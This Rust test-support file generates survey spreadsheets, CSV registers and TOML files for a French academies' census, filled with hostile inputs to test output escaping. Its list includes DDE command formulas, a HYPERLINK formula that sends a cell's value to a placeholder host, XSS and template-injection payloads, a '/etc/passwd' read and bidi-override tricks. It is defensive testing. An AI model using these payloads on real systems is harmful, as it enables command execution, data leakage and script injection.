//! The census of hostile texts. Source of the list: design/outputs.md.

use std::collections::BTreeMap;

use labcensus::codebook::{Codebook, ColumnKind, ColumnSpec, Kind, RegisterSpec};
use rust_xlsxwriter::Workbook;

use crate::support::{Census, repository};

/// Formulas, markup of four languages, characters that hide or turn.
pub(super) const INJECTIONS: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"ici\")",
    "+1-1",
    "-2+3",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "＝1+1",
    "\"=1+1",
    ";=1+1",
    "- accompagnement",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "<svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</td></tr></table><iframe src=\"http://x.invalid\">",
    "<a href=\"javascript:alert(1)\">ici</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>",
    "javascript:alert(1)",
    "&lt;b&gt; &amp;lt; &#60;",
    "]]>",
    "<!-- caché -->",
    "<![CDATA[x]]>",
    "<?php echo 1 ?>",
    "</svg>",
    "<math><mi>x</mi></math>",
    "{{7*7}}",
    "{% raw %}",
    "${7*7}",
    "| a | b |",
    "](javascript:x)",
    "![x](http://x.invalid/p.png)",
    "[x](http://x.invalid)",
    "[x]: http://x.invalid",
    "http://x.invalid/?q=1",
    "www.x.invalid",
    "# Titre",
    "`code` ``",
    "```",
    "~~~ rayé ~~",
    "1. premier",
    "> cité",
    "---",
    "===",
    "<details>",
    "\\| \\* \\",
    "**gras** __gras__ *i* _i_",
    "[^1] [ ] :smile:",
    "#eval(\"1\")",
    "#read(\"/etc/passwd\")",
    "#image(\"x\")",
    "$x$ $ sum $",
    "[#set page(margin:0pt)]",
    "fin \\",
    "*_ @ref <label>",
    "= Titre",
    "/ terme:",
    "// x /* y */ ~ -- ...",
    "a\u{202e}b\u{202c}",
    "a\u{2066}b\u{2069}\u{200e}\u{200f}",
    "a\u{200b}b\u{200d}c\u{feff}d",
    "a\u{1}b\u{8}c\u{1b}[31md\u{7f}",
    "a\u{85}b\u{fffe}c",
    "é e\u{301} œ ’ – \u{a0}! \u{202f}?",
    "👩\u{200d}🏫 🏳\u{fe0f} 𝔘 😀",
    "_xD800_ _x000D_ \\uD83D",
    "%s %n %x $HOME `id`",
];

/// What is made of the words of a field.
#[derive(Clone, Copy, PartialEq, Eq)]
enum How {
    /// They stay as they are.
    Kept,
    /// They are taken apart into items, which lose the mark of a list before them.
    Items,
    /// Options are sought in them; markup around an option, as some tools export it, is taken away.
    Options,
}

/// What was written in a field.
pub(super) struct Written {
    pub(super) text: String,
    pub(super) field: String,
    /// Whether its field is one whose words every format shows.
    pub(super) shown: bool,
    how: How,
}

impl Written {
    /// Whether it stands at the end of what is shown before its key; `shown` writes it as the format does.
    ///
    /// Of an answer that is taken apart into items, an item stands there, without the mark of a list.
    pub(super) fn ends(&self, before: &str, shown: impl Fn(&str) -> String) -> bool {
        // A next line is a space to Unicode, which some readers make of it.
        let ways = [shown(&self.text), shown(&self.text.replace('\u{85}', " "))];
        if ways.iter().any(|way| before.ends_with(way.trim()) || goes_on(before, way)) {
            return true;
        }
        let item = before.rsplit("zq").next().unwrap_or(before);
        let item = item.rsplit(['\n', '•']).next().unwrap_or(item).trim();
        let words = |text: &str| text.chars().filter(|one| one.is_alphanumeric()).count();
        let of_items = |way: &String| words(way) == words(item) && way.ends_with(item);
        self.how == How::Options || (self.how == How::Items && ways.iter().any(of_items))
    }
}

/// Most UTF-16 units of a cell of Excel, by its own limit.
pub(super) const LONGEST: usize = 32_767;
/// Characters of a key.
const KEY: usize = 9;

/// Whether the end of a text stands there and its beginning a little before, as on a page after the head of its table.
fn goes_on(before: &str, text: &str) -> bool {
    let near = before.char_indices().rev().nth(300).map_or(0, |(at, _)| at);
    let near = &before[near..];
    let cuts = text.char_indices().map(|(at, _)| at).filter(|at| *at > 0).chain([text.len()]);
    cuts.map(|at| text.split_at(at))
        .any(|(start, end)| near.strip_suffix(end).is_some_and(|rest| rest.contains(start)))
}

type Keys = BTreeMap<String, Written>;

/// A text with a key of its own at its end.
fn keyed(keys: &mut Keys, text: &str, field: &str, (shown, how): (bool, How)) -> String {
    let key = format!("zq{:05}zq", keys.len());
    let (text, field) = (text.to_owned(), field.to_owned());
    let whole = format!("{text} {key}");
    keys.insert(key, Written { text, field, shown, how });
    whole
}

/// The keys in a text, with their places.
pub(super) fn keys_in(text: &str) -> Vec<(usize, &str)> {
    let places = text.match_indices("zq").map(|(at, _)| at);
    let key = |at: usize| text.get(at..at + KEY).filter(|key| key.ends_with("zq"));
    let is_key = |key: &&str| key[2..7].bytes().all(|byte| byte.is_ascii_digit());
    places.filter_map(|at| key(at).filter(is_key).map(|key| (at, key))).collect()
}

/// Academies, one hostile fiche each.
const ACADEMIES: [&str; 24] = [
    "PARIS",
    "AIX-MARSEILLE",
    "BESANÇON",
    "BORDEAUX",
    "CLERMONT-FERRAND",
    "DIJON",
    "GRENOBLE",
    "LILLE",
    "LYON",
    "MONTPELLIER",
    "NANCY-METZ",
    "POITIERS",
    "RENNES",
    "STRASBOURG",
    "TOULOUSE",
    "NANTES",
    "ORLÉANS-TOURS",
    "REIMS",
    "AMIENS",
    "LIMOGES",
    "NICE",
    "CRÉTEIL",
    "VERSAILLES",
    "CORSE",
];

/// Names of files that a system may refuse, which then is not tried.
const FILE_NAMES: [&str; 8] = [
    "=cmd.xlsx",
    "<img src=x onerror=alert(1)>.xlsx",
    "](x) `a` | b.xlsx",
    "#read(\"x\").xlsx",
    "a\u{202e}b.xlsx",
    "-rf.xlsx",
    "@SUM(1) & $x$ %41.xlsx",
    "'; é e\u{301} 😀.xlsx",
];

/// Builds the census, and notes each text by its key.
pub(super) fn census(name: &str, keys: &mut Keys) -> Census {
    let codebook = Codebook::read(&repository().join("surveys/codebook")).unwrap();
    let mut census = Census::new(name);
    for (at, academy) in ACADEMIES.iter().enumerate() {
        let texts: Vec<&str> =
            INJECTIONS.iter().copied().skip(at).step_by(ACADEMIES.len()).collect();
        let bytes = fiche(&codebook, keys, academy, &texts);
        let plain = format!("fiche-{at}.xlsx");
        let wanted = FILE_NAMES.get(at).copied().unwrap_or(&plain);
        let path = census.home().join("surveys/2020/responses").join(wanted);
        if std::fs::write(path, &bytes).is_err() {
            census = census.file(&plain, &bytes);
        }
    }
    for register in &codebook.registers.specs {
        let file = format!("2020/activity/{}.csv", register.id);
        census = census.survey_file(&file, &rows(&codebook, register, keys, INJECTIONS));
    }
    let hostile: Vec<String> = INJECTIONS.iter().map(|text| text.replace(['{', '}'], "")).collect();
    census
        .survey_file("2020/narrative/edito.md", &hostile.join("\n\n"))
        .survey_file("2020/edition.toml", &edition(keys))
}

/// A census of the longest texts that a cell of Excel holds, with words, without any, and of two units a character.
pub(super) fn long_census(name: &str, keys: &mut Keys) -> Census {
    let codebook = Codebook::read(&repository().join("surveys/codebook")).unwrap();
    let mut census = Census::new(name);
    let long = |unit: &str| {
        // With its key, as long as Excel lets a cell be.
        let text = unit.repeat((LONGEST - KEY - 1) / unit.encode_utf16().count());
        text.trim_end().to_owned()
    };
    for (academy, unit) in [("MARTINIQUE", "mot "), ("GUYANE", "x"), ("MAYOTTE", "😀")] {
        let bytes = fiche(&codebook, keys, academy, &[&long(unit)]);
        census = census.file(&format!("{}.xlsx", academy.to_lowercase()), &bytes);
    }
    for register in &codebook.registers.specs {
        let file = format!("2020/activity/{}.csv", register.id);
        census = census.survey_file(&file, &rows(&codebook, register, keys, &[&long("mot ")]));
    }
    census
}

/// A fiche that puts the texts in each of its answers, in a question nobody knows, and in that question's words.
fn fiche(codebook: &Codebook, keys: &mut Keys, academy: &str, texts: &[&str]) -> Vec<u8> {
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    sheet.set_name("=1+1 <b>&amp;").unwrap();
    let mut rows = vec![("LAB D'ACADÉMIE DE".to_owned() + " " + academy, String::new())];
    let cell = |keys: &mut Keys, field: &str, how: (bool, How)| {
        let lines: Vec<String> = texts.iter().map(|text| keyed(keys, text, field, how)).collect();
        lines.join("\n")
    };
    for question in &codebook.questionnaire.questions {
        let how = match question.kind {
            Kind::Academy => continue,
            Kind::Text | Kind::Launch | Kind::Team => (true, How::Kept),
            Kind::List => (true, How::Items),
            Kind::Single | Kind::Multiple => (true, How::Options),
        };
        let text = cell(keys, question.id.as_str(), how);
        rows.push((question.label.fr.to_uppercase(), text));
    }
    let unknown = cell(keys, "unknown", (true, How::Kept));
    rows.push(("VOTRE COULEUR PRÉFÉRÉE <script>alert(1)</script> =1+1 #eval".to_owned(), unknown));
    // Who to write to is held back, whatever is there.
    rows.push((
        "NOM ET COURRIEL DU RÉFÉRENT".to_owned(),
        cell(keys, "contact", (false, How::Kept)),
    ));
    for (row, (label, answer)) in (0..).zip(&rows) {
        sheet.write_string(row, 0, label).unwrap();
        sheet.write_string(row, 1, answer).unwrap();
    }
    workbook.save_to_buffer().unwrap()
}

/// A register: a sound row for each text, which stands in all its columns of words, and a row of nothing but that text.
fn rows(codebook: &Codebook, register: &RegisterSpec, keys: &mut Keys, texts: &[&str]) -> String {
    let mut out = csv::WriterBuilder::new().delimiter(b';').from_writer(Vec::new());
    out.write_record(register.columns.iter().map(|column| &column.label.fr)).unwrap();
    for text in texts {
        let cells =
            register.columns.iter().map(|column| sound(codebook, register, column, keys, text));
        out.write_record(cells.collect::<Vec<_>>()).unwrap();
    }
    for text in texts.iter().step_by(3) {
        let cell = |column: &ColumnSpec| {
            let field = format!("{}.{} (mal rempli)", register.id, column.id);
            let words = matches!(column.kind, ColumnKind::Text | ColumnKind::Lines);
            // Words have had theirs in the row above.
            keyed(keys, if words { "=1+1" } else { text }, &field, (false, How::Kept))
        };
        out.write_record(register.columns.iter().map(cell).collect::<Vec<_>>()).unwrap();
    }
    String::from_utf8(out.into_inner().unwrap()).unwrap()
}

fn sound(
    codebook: &Codebook,
    register: &RegisterSpec,
    column: &ColumnSpec,
    keys: &mut Keys,
    text: &str,
) -> String {
    let field = format!("{}.{}", register.id, column.id);
    match column.kind {
        ColumnKind::Text => keyed(keys, text, &field, (true, How::Kept)),
        ColumnKind::Lines => keyed(keys, text, &field, (true, How::Items)),
        ColumnKind::Date => "2020-03-02".to_owned(),
        ColumnKind::Year => "2020".to_owned(),
        ColumnKind::Count | ColumnKind::Number => "2".to_owned(),
        ColumnKind::YesNo => "oui".to_owned(),
        ColumnKind::Academy => "Dijon".to_owned(),
        ColumnKind::Term => {
            let terms = codebook.registers.vocabulary(column).unwrap();
            terms.known().next().unwrap().label.fr.clone()
        }
    }
}

/// What the team says of the year, each word of it hostile.
fn edition(keys: &mut Keys) -> String {
    let mut text = |field: &str, at: usize| {
        let how = (field != "claim", How::Kept);
        toml::Value::String(keyed(keys, INJECTIONS[at], field, how)).to_string()
    };
    format!(
        "year = 2020\nclosing_date = 2020-12-15\ntitle.fr = {}\ntitle.en = \"x\"\nnotice.fr = {}\nnotice.en = \"x\"\n\
         [[claim]]\nfigure = \"response.received\"\nvalue = 3\nsource.fr = {}\nsource.en = \"x\"\n\
         reason.fr = {}\nreason.en = \"x\"\n",
        text("title", 14),
        text("notice", 15),
        text("claim", 0),
        text("claim", 35)
    )
}
